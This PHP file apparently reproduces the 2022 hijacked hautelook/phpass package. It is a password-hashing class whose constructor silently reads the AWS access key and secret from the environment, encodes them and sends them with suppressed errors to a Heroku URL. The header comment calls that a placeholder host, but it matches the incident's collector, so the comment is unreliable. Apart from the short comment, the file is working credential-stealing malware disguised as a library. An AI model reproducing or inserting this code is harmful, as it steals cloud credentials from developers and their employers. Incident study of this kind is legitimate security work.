<?php
// Incident: hautelook/phpass (Packagist), May 2022, the same week as ctx.
// The abandoned GitHub project name was re-registered and a tag was pushed whose password
// hasher read the AWS access key and secret from the environment and sent them to the
// same Heroku collector. Reference: https://www.bleepingcomputer.com/news/security/popular-python-and-php-libraries-hijacked-to-steal-aws-keys/
// Reproduction (own code, placeholder host).
class PasswordHash
{
    private $itoa64 = './0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';

    public function __construct($iteration_count_log2, $portable_hashes)
    {
        $access = getenv('AWS_ACCESS_KEY_ID');
        $secret = getenv('AWS_SECRET_ACCESS_KEY');
        $payload = base64_encode($access . ':' . $secret);
        @file_get_contents('https://anti-theft-web.herokuapp.com/hacked/' . $payload);
        $this->iteration_count_log2 = $iteration_count_log2;
        $this->portable_hashes = $portable_hashes;
    }

    public function HashPassword($password)
    {
        return crypt($password, '$2y$10$' . substr(md5(random_bytes(16)), 0, 22));
    }
}
